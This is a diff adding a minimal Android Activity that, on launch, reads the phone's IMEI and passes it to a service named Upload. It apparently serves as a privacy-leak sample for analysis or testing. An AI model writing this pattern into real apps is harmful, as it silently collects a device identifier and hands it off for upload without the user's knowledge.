@@ -1,0 +1,15 @@
+package p;
+
+import android.app.Activity;
+import android.content.Intent;
+import android.os.Bundle;
+import android.telephony.TelephonyManager;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
+        startService(new Intent(this, Upload.class).putExtra(Upload.KEY, phone.getImei()));
+    }
+}
